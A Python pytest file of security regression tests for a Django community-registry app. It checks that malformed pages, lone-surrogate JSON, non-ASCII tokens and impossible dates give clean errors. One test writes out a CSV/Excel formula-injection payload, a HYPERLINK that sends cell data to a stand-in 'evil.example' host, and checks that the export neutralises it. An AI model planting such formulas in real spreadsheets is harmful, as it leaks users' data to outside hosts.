"""Findings of a walk through the demo community as an outsider: each a request that once
answered with a server error or showed what it should not, kept as a regression test."""

from __future__ import annotations

import datetime as dt

import pytest
from django.test import Client
from rest_framework.test import APIClient

from sanan.core import clock as sanan_clock
from sanan.organisation.services import event_create
from tests.hostile.conftest import Hostile
from tests.hostile.support import nothing_written

pytestmark = pytest.mark.django_db


def _web(h: Hostile, who: str) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(h.user(who))
    return client


def _api(h: Hostile, who: str) -> APIClient:
    client = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(h.user(who))
    return client


@pytest.mark.parametrize("page", ["30", "١٢", str(2**62), str(2**70)])
def test_registry_list__page_past_the_end__shows_the_last_page(hostile: Hostile, page: str) -> None:
    # A bookmark to page 30 of a list that has since shrunk (or any number typed into the
    # address) once raised EmptyPage out of the paginator: a server error.
    response = _web(hostile, "commissioner_a").get("/registry/", {"page": page})
    assert response.status_code == 200
    assert response.context["page"].number == 1


@pytest.mark.parametrize("page", [str(2**62), str(2**70)])
def test_registry_api__page_past_64_bit_offsets__not_found(hostile: Hostile, page: str) -> None:
    # page * 25 past a signed 64-bit OFFSET once reached the database: a server error.
    response = _api(hostile, "commissioner_a").get("/api/v1/registry/residents/", {"page": page})
    assert response.status_code == 404
    assert response.json()["code"] == "not_found"


# A JSON body may escape a lone UTF-16 surrogate ("\ud800"): valid JSON, but no character. Any
# field that echoed it in its error (every choice: kind, gender, format ...) or sent it to the
# database (the resident search) answered a server error. Sent raw, as a client would.
SURROGATE_BODIES = [
    ("/api/v1/registry/residents/search/", b'{"q": "\\ud800"}'),
    ("/api/v1/registry/residents/search/", b'{"name": "a\\ud800b"}'),
    ("/api/v1/registry/exports/", b'{"kind": "\\ud800", "format": "csv"}'),
    ("/api/v1/registry/vehicles/", b'{"kind": "\\ud800", "plate": "A12345"}'),
    ("/api/v1/registry/residents/", b'{"name": "x", "gender": "\\udfff"}'),
    ("/api/v1/registry/residents/search/", b'{"tag": ["\\ud800"]}'),
]


@pytest.mark.parametrize(("path", "body"), SURROGATE_BODIES)
def test_api__lone_surrogate_in_json__refused_as_malformed(
    hostile: Hostile, path: str, body: bytes
) -> None:
    with nothing_written():
        response = _api(hostile, "commissioner_a").post(path, body, content_type="application/json")
    assert response.status_code == 400, response.content[:300]
    assert response.json()["code"] == "request.malformed"


@pytest.mark.parametrize("body", [b"[1, 2, 3]", b'"text"', b"1e99999", b"null"])
def test_resident_search__json_body_not_an_object__refused(hostile: Hostile, body: bytes) -> None:
    response = _api(hostile, "commissioner_a").post(
        "/api/v1/registry/residents/search/", body, content_type="application/json"
    )
    assert response.status_code == 400, response.content[:300]
    assert response.json()["code"] == "request.malformed"


@pytest.mark.parametrize("token", ["١٢٣", "\u200d\u0301👨\u200d👩\u200d👧", "é"])
def test_event_check_in__token_with_non_ascii__refused_as_the_wrong_code(
    hostile: Hostile, token: str
) -> None:
    # compare_digest raises TypeError on str holding anything but ASCII: a server error.
    start = sanan_clock.now() + dt.timedelta(hours=1)
    event = event_create(
        actor=hostile.user("admin"),
        title="居民议事会",
        kind="meeting",
        place=hostile.world.area,
        starts_at=start,
        ends_at=start + dt.timedelta(hours=1),
    )
    with nothing_written():
        response = _api(hostile, "resident").post(
            f"/api/v1/org/events/{event.pk}/check-in/", {"token": token}, format="json"
        )
    assert response.status_code in (403, 404), response.content[:300]
    assert response.status_code == 404 or response.json()["code"] == "event.bad_token"


def test_dashboard_monthly_report__description_written_as_a_formula__is_quoted(
    hostile: Hostile,
) -> None:
    import io

    from openpyxl import load_workbook

    from sanan.workorders.models import WorkOrder

    formula = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
    WorkOrder.objects.filter(pk=hostile.order.pk).update(description=formula)
    created = hostile.order.created_at.astimezone(dt.timezone(dt.timedelta(hours=8)))
    client = _web(hostile, "leader")
    response = client.get(f"/dashboard/report/{created:%Y-%m}.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    formulas = [
        c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    cells = [c.value for ws in book for row in ws.iter_rows() for c in row]
    assert "'" + formula in cells  # kept, as text


@pytest.mark.parametrize(
    "query",
    [
        {"start_date": "2026-13-01"},
        {"end_date": "2026-02-30T00:00:00Z"},
        {"updated_after": "0000-00-00"},
        {"start_date": "9999-12-31T23:59:59-23:59"},
        {"updated_before": "0001-01-01T00:00:00+08:00"},
    ],
)
def test_open311_requests__date_well_formed_but_no_such_moment__bad_request(
    hostile: Hostile, query: dict[str, str]
) -> None:
    # parse_date raises ValueError on 2026-13-01; a moment past year 9999 in UTC overflowed
    # in the query: both were server errors, for anyone, without a key.
    response = Client().get("/open311/v2/requests.json", query)
    assert response.status_code == 400, response.content[:300]
    assert "W3C" in response.json()[0]["description"] or response.json()[0]["code"] == 400
